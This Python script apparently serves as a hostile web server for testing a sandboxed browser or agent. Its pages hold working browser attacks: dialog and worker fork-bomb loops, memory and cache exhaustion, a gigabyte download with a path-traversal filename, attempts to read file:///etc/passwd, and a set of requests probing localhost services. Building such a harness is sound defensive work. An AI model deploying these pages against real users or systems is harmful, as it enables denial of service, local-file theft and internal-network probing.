"""Pages that mean harm. Arguments: the port, then the addresses that none of them may reach."""
import http.server
import sys
import time
import urllib.parse

port, targets = int(sys.argv[1]), sys.argv[2:]

# Everything that asks another address for something, with T for it.
ASK = """<img src="T/img"><iframe src="T/frame"></iframe><script src="T/script"></script><link rel=prefetch href="T/prefetch">
<img src="/to?T/redirected"><iframe src="/to?T/redirected"></iframe><form id=f target=i action="T/form" method=post></form><iframe name=i></iframe>
<script>f.submit(); for (const ask of [() => fetch("T/fetch"), () => fetch("T/nocors", {mode: "no-cors"}), () => fetch("/to?T/fetched"),
  () => fetch("T/mcp", {method: "POST", mode: "no-cors", body: "{}"}), () => navigator.sendBeacon("T/beacon", "x"), () => new WebSocket("T/ws".replace("http", "ws")),
  () => new EventSource("T/events"), () => new Worker(URL.createObjectURL(new Blob(["fetch('T/worker').catch(() => 0)"])))]) {
  try { Promise.resolve(ask()).catch(() => 0) } catch {} }
</script>"""

PAGES = {
    "/alive": "<h1>alive</h1>",
    "/dialogs": "<h1>dialogs</h1><script>for (;;) { alert('again'); confirm('again'); prompt('again') }</script>",
    "/close": "<h1>close</h1><script>window.close(); setTimeout(() => { open('', '_self'); window.close() }, 50)</script>",
    "/download": """<h1>download</h1><a download href="/gigabyte">x</a><iframe src="/gigabyte"></iframe>
<script>for (let i = 0; i < 20; i++) document.querySelector('a').click(); fetch('/gigabyte').then(r => r.arrayBuffer()).catch(() => 0)</script>""",
    "/workers": """<h1>workers</h1><script>
for (let i = 0; i < 50; i++) new Worker('/worker.js');
let n = 0;
setInterval(() => { for (let i = 0; i < 10; i++) navigator.serviceWorker.register('/sw.js?' + n, {scope: '/s/' + n++}).catch(() => 0) }, 10);
</script>""",
    "/worker.js": "const more = () => { try { new Worker('/worker.js') } catch {} }; setInterval(more, 20); more(); fetch('/alive').catch(() => 0)",
    "/sw.js": """oninstall = e => { skipWaiting(); e.waitUntil(new Promise(() => 0)) };
setInterval(() => { fetch('/alive').catch(() => 0); self.registration.update().catch(() => 0) }, 10);
for (let i = 0, t = Date.now(); Date.now() - t < 20000; i++);""",
    "/memory": """<h1>memory</h1><script>
const all = [];
setInterval(() => { for (let i = 0; i < 4; i++) { const a = new Uint8Array(16 << 20); for (let k = 0; k < a.length; k += 4096) a[k] = k; all.push(a) } }, 10);
</script>""",
    "/storage": """<h1>storage</h1><script>
(async () => { const c = await caches.open('x'); for (let i = 0; ; i++) { const a = new Uint8Array(16 << 20); for (let k = 0; k < a.length; k += 65536) crypto.getRandomValues(a.subarray(k, k + 65536));
  await c.put('/k' + i, new Response(a)) } })().catch(e => console.log('it is full: ' + e));
</script>""",
    "/console": "<h1>console</h1><script>for (let i = 0; i < 10000; i++) console.log('line ' + i + ' ' + 'x'.repeat(200))</script>",
    "/file": """<h1>file</h1><iframe src="file:///etc/passwd"></iframe><iframe src="/to?file:///etc/passwd"></iframe><object data="file:///etc/passwd"></object>
<script>fetch('file:///etc/passwd').catch(() => 0); fetch('/to?file:///etc/passwd').catch(() => 0); window.open('file:///etc/passwd'); location = 'file:///etc/passwd'</script>""",
    "/passwd": "to file:///etc/passwd",
    "/hosts": "<h1>hosts</h1>" + "".join(ASK.replace("id=f", "id=f%d" % i).replace("f.submit", "f%d.submit" % i).replace("T", t) for i, t in enumerate(targets)),
    "/door": "<h1>door</h1>" + "".join(ASK.replace("id=f", "id=f%d" % i).replace("f.submit", "f%d.submit" % i).replace("T", t) for i, t in enumerate(
        "http://127.0.0.1:7070/web.git http://localhost:7070/model/anthropic http://[::1]:7070".split())),
    "/spin": "<h1>spin</h1><script>onload = () => { setTimeout(() => { for (;;); }, 50) }</script>",
}


class Handler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass

    def begin(self, kind, *headers):
        self.send_response(200)
        self.send_header("Content-Type", kind)
        for name, value in headers:
            self.send_header(name, value)
        self.end_headers()

    def do_GET(self):
        at = urllib.parse.urlsplit(self.path)
        if at.path == "/to" or PAGES.get(at.path, "").startswith("to "):
            self.send_response(302)
            self.send_header("Location", urllib.parse.unquote(at.query) or PAGES[at.path][3:])
            self.end_headers()
        elif at.path == "/gigabyte":
            self.begin("application/octet-stream", ("Content-Disposition", 'attachment; filename="../../../../tmp/slipped"'), ("Content-Length", str(1 << 30)))
            for _ in range(1 << 10):
                self.wfile.write(bytes(1 << 20))
        elif at.path == "/endless":
            self.begin("text/html")
            self.wfile.write(b"<h1>endless</h1>")
            while True:
                self.wfile.write(b"<p>more")
                self.wfile.flush()
                time.sleep(0.05)
        elif at.path == "/silent":
            time.sleep(3600)
        elif at.path in PAGES:
            self.begin("text/javascript" if at.path.endswith(".js") else "text/html", ("Service-Worker-Allowed", "/"))
            self.wfile.write(PAGES[at.path].encode())
        else:
            self.send_error(404)

    def handle(self):
        try:
            super().handle()
        except OSError:
            pass  # it went away


http.server.ThreadingHTTPServer.daemon_threads = True
http.server.ThreadingHTTPServer.request_queue_size = 128
http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler).serve_forever()
